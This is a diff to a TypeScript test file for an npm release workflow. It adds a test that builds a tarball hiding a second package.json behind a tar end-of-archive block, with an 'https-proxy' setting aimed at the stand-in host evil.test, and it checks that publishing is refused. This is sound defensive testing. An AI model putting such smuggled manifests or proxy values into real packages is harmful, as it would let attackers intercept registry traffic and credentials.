@@ -3,6 +3,7 @@ import { execFileSync, spawnSync } from 'node:child_process'
 import { chmodSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
+import { gzipSync } from 'node:zlib'
 import { test } from 'uvu'
 import * as assert from 'uvu/assert'
 import { pack } from '../../scripts/pack.mjs'
@@ -14,8 +15,12 @@ const script = readFileSync(join(root, '.github/workflows/release.yml'), 'utf8')
   .at(-1)!
   .replace(/^ {10}/gm, '')
 
-/** Runs it on packages by their files; answers what npm was asked, and in which folder. */
-function publish(packages: readonly Record<string, string>[], more: Record<string, string> = {}): { isDone: boolean; asked: string[] } {
+/** Runs it on packages by their files, each with a manifest behind its first end if one is given; answers what npm was asked, and in which folder. */
+function publish(
+  packages: readonly Record<string, string>[],
+  more: Record<string, string> = {},
+  hidden = '',
+): { isDone: boolean; asked: string[] } {
   const folder = mkdtempSync(join(tmpdir(), 'latchkey-publish-'))
   try {
     const [from, bin, made] = ['tarballs', 'bin', 'made'].map(name => join(folder, name)) as [string, string, string]
@@ -26,7 +31,15 @@ function publish(packages: readonly Record<string, string>[], more: Record<strin
         mkdirSync(join(made, path, '..'), { recursive: true })
         writeFileSync(join(made, path), text)
       }
-      execFileSync('tar', ['-czf', join(from, `${at}.tgz`), ...Object.keys(files)], { cwd: made })
+      const tar = () => execFileSync('tar', ['-cf', '-', ...Object.keys(files)], { cwd: made })
+      const whole = [tar()]
+      if (hidden) {
+        writeFileSync(join(made, 'package/package.json'), hidden)
+        // Of the many blocks of zeros at the end, one.
+        const entries = whole[0]!.subarray(0, 512 * Math.ceil(whole[0]!.findLastIndex(Boolean) / 512))
+        whole.splice(0, 1, entries, Buffer.alloc(512), tar())
+      }
+      writeFileSync(join(from, `${at}.tgz`), gzipSync(Buffer.concat(whole)))
     })
     writeFileSync(
       join(from, 'SHA256SUMS'),
@@ -71,6 +84,13 @@ for (const [what, packages, more] of [
   test(`it publishes nothing where there is ${what}`, () => {
     assert.equal(publish(packages, more), { isDone: false, asked: [] })
   })
+
+test('it publishes nothing whose manifest has another behind the end that some readers stop at', () => {
+  const { publishConfig: _, ...plain } = JSON.parse(ours['package/package.json']) as Record<string, unknown>
+  const hidden = JSON.stringify({ ...plain, publishConfig: { 'https-proxy': 'http://evil.test' } })
+  assert.equal(publish([ours], {}, hidden), { isDone: false, asked: [] })
+  assert.equal(publish([{ 'package/index.js': '', ...ours }]).isDone, true)
+})
 
 test('what we pack is what it takes', () => {
   for (const folder of ['.', 'scripts/sandbox', 'scripts/testing'])
